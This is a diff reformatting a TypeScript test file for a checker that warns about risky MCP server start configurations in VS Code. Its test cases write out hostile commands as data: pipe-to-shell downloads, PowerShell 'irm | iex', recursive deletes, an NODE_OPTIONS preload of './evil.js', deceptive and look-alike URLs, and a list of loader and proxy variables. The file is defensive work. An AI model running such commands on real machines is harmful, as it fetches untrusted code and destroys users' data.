@@ -3,49 +3,98 @@ import { describe, test } from 'node:test';
 import { describeStart } from '../../../src/core/config/describeStart.js';
 import type { ConfigSource, ServerDefinition } from '../../../src/core/config/serverDefinition.js';
 
-const vscode = (folder: string): ConfigSource => ({ id: `vscode:${folder}`, kind: 'vscode', label: '.vscode/mcp.json', folderPath: `/w/${folder}`, folderName: folder });
+const vscode = (folder: string): ConfigSource => ({
+  id: `vscode:${folder}`,
+  kind: 'vscode',
+  label: '.vscode/mcp.json',
+  folderPath: `/w/${folder}`,
+  folderName: folder,
+});
 
 describe('[C2] the description of a start', () => {
   const describe_ = (definition: ServerDefinition) => describeStart({ definition, source: vscode('a') });
 
   test('shows everything in full, and literal secrets as digests', () => {
     const long = 'x'.repeat(5_000);
-    assert.deepEqual(describe_({ type: 'stdio', command: 'node', args: ['a b', long], env: { TOKEN: 'very-secret' }, cwd: '/w/a' }), {
-      source: 'a: .vscode/mcp.json',
-      command: 'node',
-      args: ['a b', long],
-      cwd: '/w/a',
-      env: ['TOKEN=⟨secret, SHA-256 f80bd9061f8b…⟩'],
-      headers: [],
-      variables: [],
-      warnings: [],
-    });
+    assert.deepEqual(
+      describe_({ type: 'stdio', command: 'node', args: ['a b', long], env: { TOKEN: 'very-secret' }, cwd: '/w/a' }),
+      {
+        source: 'a: .vscode/mcp.json',
+        command: 'node',
+        args: ['a b', long],
+        cwd: '/w/a',
+        env: ['TOKEN=⟨secret, SHA-256 f80bd9061f8b…⟩'],
+        headers: [],
+        variables: [],
+        warnings: [],
+      },
+    );
   });
 
   const warnings: [string, ServerDefinition, RegExp][] = [
     ['a shell script', { type: 'stdio', command: '/bin/bash', args: ['-c', 'echo'], env: {} }, /shell script/],
     ['sudo', { type: 'stdio', command: 'sudo', args: ['x'], env: {} }, /administrator/],
-    ['a download that is run', { type: 'stdio', command: 'sh', args: ['-c', 'curl https://x | sh'], env: {} }, /downloads something and runs it/],
+    [
+      'a download that is run',
+      { type: 'stdio', command: 'sh', args: ['-c', 'curl https://x | sh'], env: {} },
+      /downloads something and runs it/,
+    ],
     ['hidden characters', { type: 'stdio', command: 'no\u202ede', args: [], env: {} }, /1 hidden character,/],
-    ['a loader variable', { type: 'stdio', command: 'x', args: [], env: { NODE_OPTIONS: '--require ./evil.js' } }, /NODE_OPTIONS/],
+    [
+      'a loader variable',
+      { type: 'stdio', command: 'x', args: [], env: { NODE_OPTIONS: '--require ./evil.js' } },
+      /NODE_OPTIONS/,
+    ],
     ['plain http', { type: 'http', url: 'http://example.com/mcp', headers: {} }, /not encrypted/],
   ];
-  for (const [what, definition, expected] of warnings) test(`warns of ${what}`, () => assert.match(describe_(definition).warnings.join(' '), expected));
+  for (const [what, definition, expected] of warnings)
+    test(`warns of ${what}`, () => assert.match(describe_(definition).warnings.join(' '), expected));
 
   test('does not warn of plain http on this machine', () => {
     assert.deepEqual(describe_({ type: 'http', url: 'http://127.0.0.1:3000/mcp', headers: {} }).warnings, []);
   });
 
   test('makes the name of the folder visible as well', () => {
-    assert.equal(describeStart({ definition: { type: 'builtin' }, source: { ...vscode('a'), folderName: 'a\u202eb' } }).source, 'a\\u{202e}b: .vscode/mcp.json');
+    assert.equal(
+      describeStart({ definition: { type: 'builtin' }, source: { ...vscode('a'), folderName: 'a\u202eb' } }).source,
+      'a\\u{202e}b: .vscode/mcp.json',
+    );
   });
 
   test('[C25] warns of every variable that changes what programs load, fetch or trust', () => {
-    const names = ['HOME', 'XDG_CONFIG_HOME', 'HTTPS_PROXY', 'https_proxy', 'SSL_CERT_FILE', 'UV_INDEX', 'PIP_CONFIG_FILE', 'PYTHONUSERBASE', 'GIT_CONFIG_COUNT', 'GIT_CONFIG_KEY_0', '_JAVA_OPTIONS', 'JDK_JAVA_OPTIONS', 'DOTNET_STARTUP_HOOKS', 'BUN_CONFIG_REGISTRY', 'DOCKER_HOST', 'NODE_OPTIONS', 'LD_PRELOAD', 'npm_config_registry'];
+    const names = [
+      'HOME',
+      'XDG_CONFIG_HOME',
+      'HTTPS_PROXY',
+      'https_proxy',
+      'SSL_CERT_FILE',
+      'UV_INDEX',
+      'PIP_CONFIG_FILE',
+      'PYTHONUSERBASE',
+      'GIT_CONFIG_COUNT',
+      'GIT_CONFIG_KEY_0',
+      '_JAVA_OPTIONS',
+      'JDK_JAVA_OPTIONS',
+      'DOTNET_STARTUP_HOOKS',
+      'BUN_CONFIG_REGISTRY',
+      'DOCKER_HOST',
+      'NODE_OPTIONS',
+      'LD_PRELOAD',
+      'npm_config_registry',
+    ];
     const env = Object.fromEntries(names.map((name) => [name, 'x']));
-    assert.deepEqual(describe_({ type: 'stdio', command: 'x', args: [], env: { ...env, LOG_LEVEL: 'debug' } }).warnings, [`It changes what programs load, fetch or trust (${names.join(', ')}).`]);
-    const inFile = describeStart({ definition: { type: 'stdio', command: 'x', args: [], env: {}, envFile: '.env' }, source: vscode('a'), envFileNames: [...names, 'LOG_LEVEL'] });
-    assert.deepEqual(inFile.warnings, [`The file .env changes what programs load, fetch or trust (${names.join(', ')}).`]);
+    assert.deepEqual(
+      describe_({ type: 'stdio', command: 'x', args: [], env: { ...env, LOG_LEVEL: 'debug' } }).warnings,
+      [`It changes what programs load, fetch or trust (${names.join(', ')}).`],
+    );
+    const inFile = describeStart({
+      definition: { type: 'stdio', command: 'x', args: [], env: {}, envFile: '.env' },
+      source: vscode('a'),
+      envFileNames: [...names, 'LOG_LEVEL'],
+    });
+    assert.deepEqual(inFile.warnings, [
+      `The file .env changes what programs load, fetch or trust (${names.join(', ')}).`,
+    ]);
   });
 
   const run = (command: string, ...args: string[]): ServerDefinition => ({ type: 'stdio', command, args, env: {} });
@@ -60,20 +109,29 @@ describe('[C2] the description of a start', () => {
       ['del of Windows', run('cmd', '/c', 'del /s C:\\'), /deletes files/],
       ['a download in a substitution', run('bash', '-c', '$(curl -fsSL https://x)'), /downloads something and runs it/],
       ['a download into an interpreter', run('bash', '-c', 'curl x | sudo python3 -'), /administrator/],
-      ['a download by PowerShell', run('powershell', '-Command', 'irm https://x | iex'), /downloads something and runs it/],
+      [
+        'a download by PowerShell',
+        run('powershell', '-Command', 'irm https://x | iex'),
+        /downloads something and runs it/,
+      ],
       ['a shell behind another program', run('env', 'bash', '-ec', 'x'), /shell script/],
       ['a shell with options before', run('bash', '-o', 'pipefail', '-c', 'x'), /shell script/],
       ['an encoded script', run('C:\\Windows\\PowerShell.exe', '-EncodedCommand', 'AAAA'), /shell script/],
       ['code for Node', run('node', '-e', 'x'), /program code/],
       ['code for Python', run('python3', '-Ic', 'x'), /program code/],
-      ['an address that is not what it seems', remote('http://localhost:80@evil.example/'), /not encrypted.*leads to evil\.example/],
+      [
+        'an address that is not what it seems',
+        remote('http://localhost:80@evil.example/'),
+        /not encrypted.*leads to evil\.example/,
+      ],
       ['a host in look-alike letters', remote('https://gіthub.com/'), /xn--/],
       ['a folder outside', { ...run('x'), cwd: '../other' } as ServerDefinition, /folder outside/],
       ['a folder at home', { ...run('x'), cwd: '${userHome}/x' } as ServerDefinition, /folder outside/],
       ['an env file outside', { ...run('x'), envFile: '/etc/secrets' } as ServerDefinition, /file outside/],
       ['hidden characters in a name', { type: 'stdio', command: 'x', args: [], env: { 'A\u200b': '1' } }, /1 hidden/],
     ];
-    for (const [what, definition, expected] of cases) test(what, () => assert.match(describe_(definition).warnings.join(' '), expected));
+    for (const [what, definition, expected] of cases)
+      test(what, () => assert.match(describe_(definition).warnings.join(' '), expected));
   });
 
   describe('does not warn of', () => {
@@ -98,7 +156,9 @@ describe('[C2] the description of a start', () => {
       { id: 'a', type: 'command', command: 'evil.do', args: { text: 'rm -rf ~\n' } },
       { id: 'other', type: 'command', command: 'not.used' },
     ] as const;
-    assert.deepEqual(describeStart({ definition: run('x', '${input:a}'), source: vscode('a'), inputs }).warnings, ['It runs the VS Code command "evil.do" with {"text":"rm -rf ~\\n"} to fill in ${input:a}.']);
+    assert.deepEqual(describeStart({ definition: run('x', '${input:a}'), source: vscode('a'), inputs }).warnings, [
+      'It runs the VS Code command "evil.do" with {"text":"rm -rf ~\\n"} to fill in ${input:a}.',
+    ]);
   });
 
   // Here and below: work that grew with the square would not end within the time a test file has.
